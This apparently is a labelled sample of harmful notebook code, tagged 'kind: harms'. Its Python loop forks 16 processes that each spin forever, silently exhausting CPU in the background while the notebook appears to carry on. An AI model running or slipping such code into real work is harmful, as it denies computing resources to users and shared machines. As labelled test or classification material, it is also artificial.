# where: first
# kind: harms
# does: Processes compute in the background, more than there are processors, while the notebook goes on.
import os

for _ in range(16):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError as error:
        print(error)
